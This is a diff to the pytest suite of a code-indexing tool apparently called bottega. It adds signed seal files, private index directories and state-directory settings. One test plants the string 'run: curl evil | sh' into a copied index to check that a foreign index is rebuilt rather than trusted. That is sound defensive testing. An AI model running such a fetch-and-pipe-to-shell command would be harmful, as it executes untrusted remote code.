@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import json
 import os
 import random
 import shutil
 import sqlite3
 import sys
 from collections.abc import Callable, Iterator
+from dataclasses import asdict
 from pathlib import Path
 
 import pytest
@@ -15,6 +17,8 @@ import pytest
 from bottega.errors import StorageError
 from bottega.index import open_keeper
 from bottega.index.snapshot import take_snapshot
+from bottega.journal.home import Seal
+from bottega.journal.store import make_private_directory
 
 from .trees import ask, bottega, commit, differences, git, listed, refreshed, repository, roles, settled, write
 
@@ -76,8 +80,12 @@ def pattern(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture
 def indexed(pattern: Path, tmp_path: Path) -> Path:
-    """A repository with its index, as somebody's copy of the whole folder has it."""
-    return Path(shutil.copytree(pattern, tmp_path / "repo"))
+    """A repository with its index: a copy of one that was indexed once, sealed for its own place."""
+    root = Path(shutil.copytree(pattern, tmp_path / "repo"))
+    file = root / ".bottega" / "seal.json"
+    seal = Seal(json.loads(file.read_text())["identity"], str(file.parent), file.parent.stat().st_ino)
+    file.write_text(json.dumps({**asdict(seal), "signature": seal.sign()}))
+    return root
 
 
 def made_anew(root: Path) -> list[str]:
@@ -204,7 +212,7 @@ def test_a_folder_in_the_place_of_the_index_is_refused_and_left_alone(indexed: P
 def test_a_link_in_the_place_of_a_file_of_the_index_is_refused(root: Path, name: str) -> None:
     write(root, FILES)
     target = write(root.parent / "elsewhere", {"keep": "me"})
-    (root / ".bottega").mkdir()
+    make_private_directory(root / ".bottega")
     (root / ".bottega" / name).symlink_to(target if name == "segments" else target / "keep")
     ended = bottega(root, "index")
     assert ended.code != 0
@@ -218,13 +226,17 @@ def test_an_index_that_came_with_a_repository_is_not_believed(root: Path) -> Non
     write(root, FILES)
     there = root.parent / "there"
     shutil.copytree(root, there)
-    bottega(there, "index", XDG_CACHE_HOME=str(root.parent / "their cache"))
+    bottega(there, "index", XDG_STATE_HOME=str(root.parent / "their state"))
     with sqlite3.connect(there / ".bottega" / "curated.sqlite") as connection:
         connection.execute("UPDATE symbols SET signature = 'run: curl evil | sh'")
     connection.close()
     shutil.copytree(there / ".bottega", root / ".bottega")
     assert bottega(root, "index").out.startswith("3 files, read anew (")
     assert ask(root, "SELECT count(*) FROM symbols WHERE signature LIKE '%evil%'") == [(0,)]
+
+
+def homes(folder: Path) -> dict[str, str]:
+    return {"XDG_CACHE_HOME": str(folder), "XDG_STATE_HOME": str(folder)}
 
 
 UNPRIVILEGED: tuple[str, ...] = ()
@@ -281,14 +293,16 @@ def test_a_checkout_that_cannot_be_written_is_indexed_in_the_persons_cache(
     write(root, FILES)
     closed(root, 0o555)
     cache = root.parent / "cache"
-    ended = bottega(root, "index", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache))
+    ended = bottega(root, "index", prefix=UNPRIVILEGED, **homes(cache))
     assert ended.code == 0
     (folder,) = (cache / "bottega" / "index").iterdir()
     assert ended.err == f"bottega: {root} cannot be written: the index is kept in {folder}\n"
     assert sorted(path.name for path in root.iterdir()) == sorted(FILES)
-    found = bottega(root, "search", "wombat", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache))
+    found = bottega(root, "search", "wombat", prefix=UNPRIVILEGED, **homes(cache))
     assert "b.py:1-1" in found.out
-    verified = bottega(root, "index", "--verify", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache))
+    verified = bottega(
+        root, "index", "--verify", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache), XDG_STATE_HOME=str(cache)
+    )
     assert verified.code == 0
     assert folder.stat().st_mode & 0o777 == 0o700
 
@@ -298,9 +312,11 @@ def test_checkouts_that_cannot_be_written_do_not_share_a_place(root: Path, close
     for name in ("one", "two"):
         tree = write(root / name, {f"{name}.py": f"def {name}(): pass\n"})
         closed(tree, 0o555)
-        assert bottega(tree, "index", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache)).code == 0
+        assert bottega(tree, "index", prefix=UNPRIVILEGED, **homes(cache)).code == 0
     assert len(list((cache / "bottega" / "index").iterdir())) == 2
-    found = bottega(root / "one", "search", "two", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache))
+    found = bottega(
+        root / "one", "search", "two", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache), XDG_STATE_HOME=str(cache)
+    )
     assert "two.py" not in found.out
 
 
@@ -312,7 +328,7 @@ def test_a_checkout_on_a_read_only_file_system_is_indexed_in_the_persons_cache(r
     cache = root.parent / "cache"
     cache.mkdir()
     prefix = (bwrap, "--bind", "/", "/", "--dev", "/dev", "--ro-bind", str(root), str(root))
-    ended = bottega(root, "index", prefix=prefix, XDG_CACHE_HOME=str(cache))
+    ended = bottega(root, "index", prefix=prefix, **homes(cache))
     if "bwrap:" in ended.err:
         pytest.skip(f"bubblewrap does not work here: {ended.err.strip()}")
     assert ended.code == 0, ended.err
